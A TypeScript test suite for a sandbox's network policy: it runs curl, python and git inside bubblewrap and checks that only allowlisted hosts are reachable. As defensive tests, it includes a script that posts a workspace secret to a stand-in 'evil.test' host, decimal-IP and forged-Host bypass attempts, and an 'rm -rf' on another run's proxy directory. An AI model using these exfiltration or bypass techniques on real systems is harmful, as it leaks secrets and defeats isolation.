import { spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { type CompiledPolicy, loadPolicy } from '@toolgate/folder-rules';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  type ConnectionRecord,
  NATIVE_BRIDGE,
  type NetworkProxy,
  nativeBridge,
  probeSandbox,
  sandbox,
  startNetworkProxy,
} from '../src/index.js';
import { type CountingServer, countingServer, type Ran, runAsync } from './networkHelpers.js';

// Issue 26, kernel side: the sandbox gets the network the policy gives it. Real bubblewrap, real curl and
// python3 inside, real HTTP servers on loopback addresses outside (127.0.0.2 "allowed", 127.0.0.3 "evil"),
// each counting the connections it saw — a denial is asserted where it matters, at the server.

const haveBwrap = probeSandbox().ok;
const haveCurl = spawnSync('curl', ['--version']).status === 0;
const havePython = spawnSync('/usr/bin/python3', ['-c', '0']).status === 0;
const havePerl = spawnSync('/usr/bin/perl', ['-e', '0']).status === 0;
it('bubblewrap, curl, python3 and perl are installed', () =>
  expect({ haveBwrap, haveCurl, havePython, havePerl }).toEqual({
    haveBwrap: true,
    haveCurl: true,
    havePython: true,
    havePerl: true,
  }));

let root: string;
let ws: string;
let allowed: CountingServer;
let evil: CountingServer;
let proxy: NetworkProxy;
let records: ConnectionRecord[] = [];
let allowlist: CompiledPolicy;
const PY = '/usr/bin/python3';
const BRIDGES = ['native', 'perl'] as const;

it(`the compiled bridge is built (${NATIVE_BRIDGE}: the build compiles native/bridge.c with cc)`, () =>
  expect(nativeBridge()).toMatch(new RegExp(`/dist/native/${NATIVE_BRIDGE}$`)));

function load(network: string[] | undefined, name: string): CompiledPolicy {
  const file = join(root, `${name}.yaml`);
  writeFileSync(
    file,
    [
      'default: read',
      'rules:',
      '  - { pattern: "<workspace>/**", access: write }',
      ...(network ? ['network:', ...network.map((l) => `  ${l}`)] : []),
      '',
    ].join('\n'),
  );
  return loadPolicy({ dialect: 'toolgate', file });
}

const ctx = () => ({ cwd: ws, workspace: ws, home: root, env: process.env });

/** Runs a command in the sandbox of `policy` (with this file's proxy when the policy needs one). */
function inSandbox(policy: CompiledPolicy, command: string[], socket = proxy.socketPath): Promise<Ran> {
  const box = sandbox({ policy, mode: 'always' });
  const argv = box.prefix(ctx(), [], box.network === 'proxy' ? { network: { socket } } : {});
  return runAsync([...argv, ...command]);
}

const curl = (...args: string[]) => ['curl', '-sS', '--max-time', '10', ...args];

beforeAll(async () => {
  root = realpathSync.native(mkdtempSync(join(tmpdir(), 'toolgate-network-')));
  ws = join(root, 'ws');
  mkdirSync(ws);
  writeFileSync(join(ws, 'secret.txt'), 'the workspace secret\n');
  allowed = await countingServer('127.0.0.2', 'allowed-ok');
  evil = await countingServer('127.0.0.3', 'evil-ok');
  allowlist = load(
    [
      'default: deny',
      'rules:',
      '  - { host: allowed.test, action: allow }',
      '  - { host: 127.0.0.2, action: allow, method: read }',
    ],
    'allowlist',
  );
  proxy = await startNetworkProxy({
    policy: allowlist.network!,
    hosts: { 'allowed.test': '127.0.0.2', 'evil.test': '127.0.0.3' },
    onConnection: (r) => records.push(r),
  });
});
afterAll(async () => {
  await proxy?.close();
  allowed?.server.close();
  evil?.server.close();
  rmSync(root, { recursive: true, force: true });
});
beforeEach(() => {
  records = [];
  allowed.connections = 0;
  evil.connections = 0;
  allowed.bodies.length = 0;
  allowed.hosts.length = 0;
  evil.bodies.length = 0;
});

describe('no network (default deny, nothing allowed)', () => {
  it('runs with a network namespace of its own: a host server on loopback sees no connection', async () => {
    const policy = load(['default: deny'], 'none');
    const box = sandbox({ policy, mode: 'always' });
    expect(box.network).toBe('none');
    const argv = box.prefix(ctx());
    expect(argv).not.toContain('--share-net');
    expect(argv).not.toContain('perl');
    const r = await inSandbox(policy, curl(`http://127.0.0.3:${evil.port}/`));
    expect(r.code).not.toBe(0);
    expect(r.stdout).toBe('');
    expect(evil.connections).toBe(0);
    // Its own loopback works (twin): a server the command starts on localhost is reachable.
    const local = await inSandbox(policy, [
      PY,
      '-c',
      'import socket;s=socket.socket();s.bind(("127.0.0.1",0));s.listen();c=socket.create_connection(s.getsockname());print("local-ok")',
    ]);
    expect(local.stdout).toBe('local-ok\n');
  });
});

// Every proxied case runs with each bridge: the compiled one (what a build with a C compiler uses) and
// the perl one (the fallback). Same behaviour, asserted the same way.
describe.each(BRIDGES)('bridge: %s', (bridge) => {
  beforeEach(() => {
    process.env.TOOLGATE_SANDBOX_BRIDGE = bridge;
  });
  afterEach(() => {
    delete process.env.TOOLGATE_SANDBOX_BRIDGE;
  });

  describe('allowlist through the proxy', () => {
    it('a sandbox compiled for it unshares the network and bridges the proxy in', () => {
      const box = sandbox({ policy: allowlist, mode: 'always' });
      expect(box.network).toBe('proxy');
      const argv = box.prefix(ctx(), [], { network: { socket: proxy.socketPath } });
      expect(argv).not.toContain('--share-net');
      expect(argv.join(' ')).toContain(`--bind ${proxy.socketPath} ${proxy.socketPath}`);
      expect(argv.join(' ')).toContain('--setenv HTTPS_PROXY http://127.0.0.1:3128');
      // Without a running proxy it cannot be built (never silently the host's network).
      expect(() => box.prefix(ctx())).toThrow(/proxy/);
    });

    it('an allowed host answers through the proxy; the connection is recorded', async () => {
      const r = await inSandbox(allowlist, curl(`http://allowed.test:${allowed.port}/`));
      expect(r).toMatchObject({ code: 0, stdout: 'allowed-ok' });
      expect(allowed.connections).toBe(1);
      expect(records).toEqual([
        expect.objectContaining({
          host: 'allowed.test',
          port: allowed.port,
          method: 'read',
          via: 'http',
          action: 'allow',
          rule: 'allow allowed.test',
        }),
      ]);
    });

    it('the Host sent upstream is the judged one: a forged Host header cannot pick another virtual host', async () => {
      const r = await inSandbox(
        allowlist,
        curl('-H', 'Host: evil.test', `http://allowed.test:${allowed.port}/`),
      );
      expect(r.stdout).toBe('allowed-ok');
      expect(allowed.hosts).toEqual([`allowed.test:${allowed.port}`]);
    });

    it('a host not in the list gets 403 naming host and rule, and its server sees nothing', async () => {
      const r = await inSandbox(allowlist, curl('-i', `http://evil.test:${evil.port}/`));
      expect(r.stdout).toMatch(/^HTTP\/1\.1 403 Forbidden/);
      expect(r.stdout).toContain(`evil.test:${evil.port}`);
      expect(r.stdout).toContain('rule: default: deny');
      expect(evil.connections).toBe(0);
      expect(records).toEqual([
        expect.objectContaining({ host: 'evil.test', action: 'deny', rule: 'default: deny', via: 'http' }),
      ]);
    });

    it('an IP literal is judged as the IP: the evil server by address is denied, the allowed one by address is allowed for reads only', async () => {
      const byIp = await inSandbox(
        allowlist,
        curl('-o', '/dev/null', '-w', '%{http_code}', `http://127.0.0.3:${evil.port}/`),
      );
      expect(byIp.stdout).toBe('403');
      // 2130706435 is 127.0.0.3 written as one number.
      const decimal = await inSandbox(
        allowlist,
        curl('-o', '/dev/null', '-w', '%{http_code}', `http://2130706435:${evil.port}/`),
      );
      expect(decimal.stdout).toBe('403');
      expect(evil.connections).toBe(0);
      const read = await inSandbox(allowlist, curl(`http://127.0.0.2:${allowed.port}/`));
      expect(read.stdout).toBe('allowed-ok');
      const write = await inSandbox(
        allowlist,
        curl('-o', '/dev/null', '-w', '%{http_code}', '-d', 'x=1', `http://127.0.0.2:${allowed.port}/`),
      );
      expect(write.stdout).toBe('403');
      expect(allowed.bodies).toEqual(['']);
    });

    it('CONNECT (HTTPS) to a denied host is refused; a CONNECT tunnel to an allowed host works (twin)', async () => {
      const https = await inSandbox(allowlist, curl(`https://evil.test:${evil.port}/`));
      expect(https.code).toBe(56);
      expect(https.stderr).toMatch(/CONNECT tunnel failed, response 403/);
      const tunnelled = await inSandbox(allowlist, curl('--proxytunnel', `http://evil.test:${evil.port}/`));
      expect(tunnelled.code).not.toBe(0);
      expect(evil.connections).toBe(0);
      const ok = await inSandbox(allowlist, curl('--proxytunnel', `http://allowed.test:${allowed.port}/`));
      expect(ok).toMatchObject({ code: 0, stdout: 'allowed-ok' });
      expect(records.map((r) => [r.host, r.via, r.method, r.action])).toEqual([
        ['evil.test', 'connect', 'write', 'deny'],
        ['evil.test', 'connect', 'write', 'deny'],
        ['allowed.test', 'connect', 'write', 'allow'],
      ]);
    });

    it('SOCKS5: an allowed host connects, a denied one gets "not allowed by ruleset"', async () => {
      const ok = await inSandbox(
        allowlist,
        curl('-x', 'socks5h://127.0.0.1:3128', `http://allowed.test:${allowed.port}/`),
      );
      expect(ok).toMatchObject({ code: 0, stdout: 'allowed-ok' });
      const denied = await inSandbox(
        allowlist,
        curl('-x', 'socks5h://127.0.0.1:3128', `http://evil.test:${evil.port}/`),
      );
      expect(denied.code).toBe(97);
      expect(denied.stderr).toMatch(/not allowed|connection to proxy closed|SOCKS/i);
      expect(evil.connections).toBe(0);
      expect(records.map((r) => [r.host, r.via, r.action])).toEqual([
        ['allowed.test', 'socks5', 'allow'],
        ['evil.test', 'socks5', 'deny'],
      ]);
    });

    it('a sandboxed python script that posts the workspace to a host not in the list fails, and the attempt is recorded', async () => {
      writeFileSync(
        join(ws, 'x.py'),
        [
          'import urllib.request, sys',
          'data = open("secret.txt", "rb").read()',
          `req = urllib.request.Request("http://evil.test:${evil.port}/upload", data=data, method="POST")`,
          'try:',
          '    urllib.request.urlopen(req, timeout=10)',
          '    print("sent")',
          'except Exception as e:',
          '    print("failed", getattr(e, "code", ""), getattr(e, "read", lambda: b"")().decode().strip())',
          '    sys.exit(3)',
          '',
        ].join('\n'),
      );
      const r = await inSandbox(allowlist, [PY, 'x.py']);
      expect(r.code).toBe(3);
      expect(r.stdout).toContain('failed 403');
      expect(r.stdout).toContain('evil.test');
      expect(evil.connections).toBe(0);
      expect(evil.bodies).toEqual([]);
      expect(records).toEqual([
        expect.objectContaining({
          host: 'evil.test',
          port: evil.port,
          method: 'write',
          action: 'deny',
          via: 'http',
        }),
      ]);
    });

    it('direct sockets that ignore the proxy settings have no route: the host loopback and a public address', async () => {
      const script = (host: string, port: number) =>
        `import socket\ntry:\n    socket.create_connection(("${host}", ${port}), timeout=5)\n    print("connected")\nexcept OSError as e:\n    print("refused", e.errno)\n`;
      const loop = await inSandbox(allowlist, [PY, '-c', script('127.0.0.2', allowed.port)]);
      expect(loop.stdout).toMatch(/^refused \d+/);
      expect(allowed.connections).toBe(0);
      const pub = await inSandbox(allowlist, [PY, '-c', script('93.184.215.14', 80)]);
      expect(pub.stdout).toMatch(/^refused \d+/);
      // No DNS inside: names resolve only through the proxy.
      const dns = await inSandbox(allowlist, ['getent', 'hosts', 'example.com']);
      expect(dns.code).not.toBe(0);
      expect(records).toEqual([]);
    });

    it('UDP goes nowhere: a datagram to a host UDP server is never received, a public resolver is unreachable', async () => {
      const udp = createSocket('udp4');
      let received = 0;
      udp.on('message', () => {
        received++;
      });
      await new Promise<void>((r) => udp.bind(0, '127.0.0.3', r));
      const { port } = udp.address();
      try {
        const script = `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor host, port in (("127.0.0.3", ${port}), ("8.8.8.8", 53)):\n    try:\n        s.sendto(b"x", (host, port))\n        print("sent")\n    except OSError as e:\n        print("unreachable", e.errno)\n`;
        const r = await inSandbox(allowlist, [PY, '-c', script]);
        // The first "sent" reaches the sandbox's own loopback (nobody listens there); the second has no route.
        expect(r.stdout).toMatch(/^(sent|unreachable \d+)\nunreachable \d+\n$/);
        // Twin: the same datagram from outside arrives (the server can see one).
        const outside = await runAsync([PY, '-c', script]);
        expect(outside.stdout.startsWith('sent\n')).toBe(true);
        await new Promise((r) => setTimeout(r, 200));
        expect(received).toBe(1);
      } finally {
        udp.close();
      }
    });
  });

  describe('git through the proxy', () => {
    it('clones a repository from a listed host over HTTP; a host not in the list gets 403 (its server sees nothing)', async () => {
      // A bare repository served by git's "dumb" HTTP protocol: plain files, a static server on 127.0.0.4.
      const base = join(root, `git-${bridge}`);
      mkdirSync(base);
      const src = join(base, 'src');
      const bare = join(base, 'srv', 'repo.git');
      const git = (args: string[], cwd: string) =>
        expect(spawnSync('git', args, { cwd, encoding: 'utf8' }).status).toBe(0);
      mkdirSync(src);
      writeFileSync(join(src, 'README'), 'from the allowed host\n');
      git(['init', '-q', '-b', 'main'], src);
      git(['-c', 'user.name=t', '-c', 'user.email=t@t', 'add', '.'], src);
      git(['-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-qm', 'init'], src);
      mkdirSync(join(base, 'srv'));
      git(['clone', '-q', '--bare', src, bare], base);
      git(['update-server-info'], bare);
      let served = 0;
      const files = createServer((req, res) => {
        served++;
        const file = join(base, 'srv', decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname));
        if (!file.startsWith(join(base, 'srv')) || !existsSync(file) || !statSync(file).isFile()) {
          res.statusCode = 404;
          res.end();
        } else res.end(readFileSync(file));
      });
      await new Promise<void>((r) => files.listen(0, '127.0.0.4', r));
      const port = (files.address() as AddressInfo).port;
      const gitProxy = await startNetworkProxy({
        policy: allowlist.network!,
        hosts: { 'allowed.test': '127.0.0.4', 'evil.test': '127.0.0.4' },
        onConnection: (r) => records.push(r),
      });
      try {
        const ok = await inSandbox(
          allowlist,
          ['git', 'clone', '-q', `http://allowed.test:${port}/repo.git`, join(ws, `cloned-${bridge}`)],
          gitProxy.socketPath,
        );
        expect(ok.code).toBe(0);
        expect(readFileSync(join(ws, `cloned-${bridge}`, 'README'), 'utf8')).toBe('from the allowed host\n');
        const before = served;
        const denied = await inSandbox(
          allowlist,
          ['git', 'clone', '-q', `http://evil.test:${port}/repo.git`, join(ws, `evil-${bridge}`)],
          gitProxy.socketPath,
        );
        expect(denied.code).not.toBe(0);
        expect(denied.stderr).toMatch(/403/);
        expect(served).toBe(before);
        expect(existsSync(join(ws, `evil-${bridge}`, 'README'))).toBe(false);
        expect(records.filter((r) => r.host === 'evil.test').every((r) => r.action === 'deny')).toBe(true);
      } finally {
        await gitProxy.close();
        files.close();
      }
    });
  });

  describe('the bridge', () => {
    it('relays large bodies both ways, several connections at once (backpressure, half-close)', async () => {
      const big = createServer((req, res) => {
        let n = 0;
        req.on('data', (c: Buffer) => {
          n += c.length;
        });
        req.on('end', () => res.end(req.method === 'POST' ? `got ${n}` : Buffer.alloc(4 * 1024 * 1024, 120)));
      });
      await new Promise<void>((r) => big.listen(0, '127.0.0.2', r));
      const port = (big.address() as AddressInfo).port;
      try {
        writeFileSync(join(ws, 'upload.bin'), Buffer.alloc(3 * 1024 * 1024, 121));
        const url = `http://allowed.test:${port}/`;
        const r = await inSandbox(allowlist, [
          'sh',
          '-c',
          `curl -sS ${url} | wc -c & curl -sS ${url} | wc -c & curl -sS -w '\\n' --data-binary @upload.bin ${url}; wait`,
        ]);
        expect(r.stdout.split('\n').filter(Boolean).sort()).toEqual(['4194304', '4194304', 'got 3145728']);
      } finally {
        big.close();
      }
    });

    it('works when the policy hides the directory the toolgate packages live in; the bridge inside cannot be replaced', async () => {
      // The compiled bridge is mounted read-only at a fixed place in the proxies' tmpfs, not run from the
      // package: a policy that masks node_modules (or this repository) leaves it reachable.
      const pkg = dirname(dirname(dirname(nativeBridge()!)));
      const file = join(root, `masked-${bridge}.yaml`);
      writeFileSync(
        file,
        [
          'default: read',
          'rules:',
          '  - { pattern: "<workspace>/**", access: write }',
          `  - { pattern: "${pkg}/**", access: deny }`,
          'network:',
          '  default: deny',
          '  rules:',
          '    - { host: allowed.test, action: allow }',
          '',
        ].join('\n'),
      );
      const masked = loadPolicy({ dialect: 'toolgate', file });
      const inside = join(dirname(dirname(proxy.socketPath)), 'bridge');
      const r = await inSandbox(masked, [
        'sh',
        '-c',
        `cat ${pkg}/package.json 2>/dev/null || echo masked; curl -sS --max-time 10 http://allowed.test:${allowed.port}/; echo; if [ -e ${inside} ]; then (echo x > ${inside}) 2>/dev/null && echo replaced || echo read-only; else echo no-file; fi`,
      ]);
      expect(r.stdout).toBe(`masked\nallowed-ok\n${bridge === 'native' ? 'read-only' : 'no-file'}\n`);
    });

    it('a program that is not there inside exits 127 with its name, like a shell', async () => {
      const r = await inSandbox(allowlist, ['no-such-program-here']);
      expect(r.code).toBe(127);
      expect(r.stderr).toContain('no-such-program-here');
    });

    it('runs the command under the policy limits too (prlimit and timeout after the bridge)', async () => {
      const file = join(root, 'limited.yaml');
      writeFileSync(
        file,
        [
          'default: read',
          'rules:',
          '  - { pattern: "<workspace>/**", access: write }',
          'limits: { processes: 64, wallTime: 30s }',
          'network:',
          '  default: deny',
          '  rules:',
          '    - { host: allowed.test, action: allow }',
          '',
        ].join('\n'),
      );
      const limited = loadPolicy({ dialect: 'toolgate', file });
      const argv = sandbox({ policy: limited, mode: 'always' }).prefix(ctx(), [], {
        network: { socket: proxy.socketPath },
      });
      const after = argv.slice(argv.indexOf('--') + 1);
      expect(after[0]).toMatch(bridge === 'perl' ? /perl$/ : /\/bridge$/);
      expect(after.some((a) => a.endsWith('prlimit'))).toBe(true);
      const r = await inSandbox(limited, curl(`http://allowed.test:${allowed.port}/`));
      expect(r).toMatchObject({ code: 0, stdout: 'allowed-ok' });
    });
  });

  describe("other runs' proxies", () => {
    it('a sandbox without network cannot reach the proxy of another run (every proxy socket directory is hidden)', async () => {
      const policy = load(['default: deny'], 'none-other');
      // This file's proxy allows allowed.test; its socket is a file of this user in a 0700 directory.
      const script = `import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect(${JSON.stringify(proxy.socketPath)})\n    s.sendall(b"GET http://allowed.test:${allowed.port}/ HTTP/1.0\\r\\n\\r\\n")\n    print(s.makefile("rb").read())\nexcept OSError as e:\n    print("refused", e.errno)\n`;
      const r = await inSandbox(policy, [PY, '-c', script]);
      expect(r.stdout).toMatch(/^refused 2\n$/); // ENOENT: not there
      expect(allowed.connections).toBe(0);
      // Twin: the same script outside the sandbox does reach it (the test is able to see a leak).
      const outside = await runAsync([PY, '-c', script]);
      expect(outside.stdout).toContain('allowed-ok');
      expect(allowed.connections).toBe(1);
    });

    it('a proxied sandbox sees its own socket only', async () => {
      const other = await startNetworkProxy({
        policy: allowlist.network!,
        hosts: { 'allowed.test': '127.0.0.2' },
      });
      try {
        const r = await inSandbox(allowlist, [
          'sh',
          '-c',
          `test -S ${proxy.socketPath} && echo own; test -e ${other.socketPath} || echo other-hidden`,
        ]);
        expect(r.stdout).toBe('own\nother-hidden\n');
      } finally {
        await other.close();
      }
    });
  });

  describe('prompt rules', () => {
    it('asks once per host, keeps the client waiting for the answer, and denies at the deadline', async () => {
      const policy = load(['default: deny', 'rules:', '  - { host: "*.test", action: prompt }'], 'prompt');
      const asked: string[] = [];
      const yes = await startNetworkProxy({
        policy: policy.network!,
        hosts: { 'allowed.test': '127.0.0.2', 'evil.test': '127.0.0.3' },
        onPrompt: async (q) => {
          asked.push(`${q.host}:${q.port} ${q.method} ${q.rule}`);
          await new Promise((r) => setTimeout(r, 300));
          return q.host === 'allowed.test';
        },
        onConnection: (r) => records.push(r),
      });
      const silent = await startNetworkProxy({
        policy: policy.network!,
        hosts: { 'allowed.test': '127.0.0.2' },
        onPrompt: () => new Promise<boolean>(() => {}),
        promptTimeoutMs: 300,
      });
      try {
        const ok = await inSandbox(
          policy,
          curl(`http://allowed.test:${allowed.port}/`, `http://allowed.test:${allowed.port}/`),
          yes.socketPath,
        );
        expect(ok).toMatchObject({ code: 0, stdout: 'allowed-okallowed-ok' });
        const no = await inSandbox(
          policy,
          curl('-o', '/dev/null', '-w', '%{http_code}', `http://evil.test:${evil.port}/`),
          yes.socketPath,
        );
        expect(no.stdout).toBe('403');
        expect(asked).toEqual([
          `allowed.test:${allowed.port} read prompt *.test`,
          `evil.test:${evil.port} read prompt *.test`,
        ]);
        expect(records.map((r) => [r.host, r.action, r.prompted])).toEqual([
          ['allowed.test', 'allow', true],
          ['allowed.test', 'allow', true],
          ['evil.test', 'deny', true],
        ]);
        const late = await inSandbox(
          policy,
          curl('-o', '/dev/null', '-w', '%{http_code}', `http://allowed.test:${allowed.port}/`),
          silent.socketPath,
        );
        expect(late.stdout).toBe('403');
        expect(evil.connections).toBe(0);
      } finally {
        await yes.close();
        await silent.close();
      }
    });
  });
});

describe('unrestricted (no network section): as before', () => {
  it('shares the host network: a direct connection to a host server works', async () => {
    const policy = load(undefined, 'open');
    const box = sandbox({ policy, mode: 'always' });
    expect(box.network).toBe('shared');
    expect(box.prefix(ctx())).toContain('--share-net');
    const r = await inSandbox(policy, curl(`http://127.0.0.3:${evil.port}/`));
    expect(r).toMatchObject({ code: 0, stdout: 'evil-ok' });
    expect(evil.connections).toBe(1);
  });

  it('hides the proxies of other runs all the same (with /tmp writable it could remove their sockets)', async () => {
    const file = join(root, 'open-tmp.yaml');
    writeFileSync(
      file,
      ['default: read', 'rules:', '  - { pattern: "/tmp/**", access: write }', ''].join('\n'),
    );
    const policy = loadPolicy({ dialect: 'toolgate', file });
    const r = await inSandbox(policy, [
      'sh',
      '-c',
      `rm -rf ${dirname(proxy.socketPath)} 2>/dev/null; test -e ${proxy.socketPath} && echo visible || echo hidden`,
    ]);
    expect(r.stdout).toBe('hidden\n');
    expect(statSync(proxy.socketPath).isSocket()).toBe(true);
    // Twin: the proxy still serves (nothing was removed).
    const ok = await inSandbox(allowlist, curl(`http://allowed.test:${allowed.port}/`));
    expect(ok.stdout).toBe('allowed-ok');
  });
});
